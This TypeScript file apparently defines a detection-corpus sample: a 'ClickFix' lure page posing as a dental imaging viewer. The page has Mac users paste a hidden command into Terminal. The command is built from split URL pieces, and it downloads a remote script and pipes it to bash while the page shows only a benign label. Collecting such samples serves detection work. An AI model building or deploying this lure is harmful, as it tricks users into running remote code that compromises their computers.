import { type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { b64, charCodes, wpSite } from '../parts/yf-kit.js';

export const entries: Entry[] = [
  {
    id: 'yf-clickfix-macos-terminal-dental-imaging',
    label: 'clickfix',
    kind: 'clickfix-macos',
    url: 'https://viewer.dental-imaging-cloud.com/study/CBCT-20240411-0932',
    body: `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>DentalImaging Cloud Viewer - CBCT Study</title>
<style>
body{margin:0;background:#111827;color:#e5e7eb;font-family:-apple-system,BlinkMacSystemFont,"Helvetica Neue",Arial,sans-serif}
.top{background:#0b1220;padding:12px 20px;font-weight:600;border-bottom:1px solid #1f2937}
.c{max-width:560px;margin:10vh auto;background:#1f2937;border-radius:12px;padding:28px}
.cmd{font-family:Menlo,monospace;background:#0b1220;border:1px solid #374151;border-radius:6px;padding:12px;font-size:13px;word-break:break-all;margin:12px 0;user-select:all}
button{background:#2563eb;color:#fff;border:0;border-radius:6px;padding:10px 20px;font-size:14px}
ol{line-height:1.9;font-size:14px}
</style></head>
<body>
<div class="top">DentalImaging Cloud &middot; Study CBCT-20240411-0932 &middot; Patient: K. Sato</div>
<div class="c">
<h2 style="margin-top:0">Viewer component required</h2>
<p style="font-size:14px">3D CBCT volumes need the DentalImaging native rendering helper for macOS. This is a one-time setup.</p>
<ol><li>Click <b>Copy install command</b></li><li>Press <b>&#8984; Command + Space</b>, type <b>Terminal</b> and press Return</li><li>Paste with <b>&#8984; + V</b> and press Return, then enter your Mac password if asked</li></ol>
<div class="cmd" id="c"></div>
<button id="cp">Copy install command</button>
</div>
<script>
var c = 'echo "Installing DentalImaging Helper..." && curl -fsSL ' + ['https:', '', 'dental-imaging-cloud.com', 'mac', 'helper-install.sh'].join('/') + ' | bash';
document.getElementById('c').textContent = 'Installing DentalImaging Helper for macOS (v2.4.1)';
document.getElementById('cp').onclick = function(){ navigator.clipboard.writeText(c); this.textContent = 'Copied!'; };
</script>
</body></html>`,
  },
];
